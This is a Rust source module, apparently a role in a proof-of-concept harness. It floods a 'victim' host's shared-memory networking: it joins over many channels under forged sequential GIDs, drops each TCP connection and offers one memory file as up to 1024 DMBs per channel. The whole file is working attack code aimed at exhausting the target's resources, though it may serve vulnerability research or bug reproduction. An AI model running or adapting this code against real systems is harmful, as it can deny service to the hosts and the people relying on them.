//! Offers one memory file as thousands of DMBs, over as many channels as a user can have,
//! each under a GID of its own. No TCP connection stays.

use std::io::{self, ErrorKind};
use std::os::fd::AsFd;
use std::time::Duration;

use rustix::event::{PollFd, PollFlags};

use crate::neighbour::{self, Neighbour};

/// DMBs that a device can have.
const DMBS: u64 = 1024;
/// Bytes of the memory file.
const LEN: u64 = 4096;

/// Arguments: the victim's address, how many channels. Prints `done OFFERS`, and keeps the
/// channels until the line `end`.
pub(super) fn run(arguments: &[String]) -> io::Result<()> {
    let address = super::address(arguments)?;
    let channels = super::number(arguments, 1)?;
    let file = neighbour::dmb(LEN)?;
    let mut kept = Vec::new();
    for gid in 0..channels {
        let neighbour = Neighbour::join(address, 0xa77a_c000 + gid)?;
        let _ = neighbour.tcp.shutdown(std::net::Shutdown::Both);
        kept.push(neighbour);
    }
    let mut offers = 0;
    for (number, neighbour) in (0..).zip(&kept) {
        for slot in 0..DMBS {
            offers += u64::from(offer(
                neighbour,
                (number << 32) | slot | 1 << 20,
                slot,
                &file,
            )?);
        }
    }
    println!("done {offers}");
    crate::roles::await_line("end")
}

/// Offers one DMB as soon as there is room; whether the channel took it.
fn offer(to: &Neighbour, token: u64, slot: u64, file: impl AsFd) -> io::Result<bool> {
    loop {
        match to.offer(token, LEN, slot, file.as_fd()) {
            Ok(()) => return Ok(true),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                let mut polled = [PollFd::new(&to.channel, PollFlags::OUT)];
                let second = Duration::from_secs(1)
                    .try_into()
                    .map_err(io::Error::other)?;
                if rustix::event::poll(&mut polled, Some(&second))? == 0 {
                    return Ok(false);
                }
            }
            Err(_) => return Ok(false),
        }
    }
}
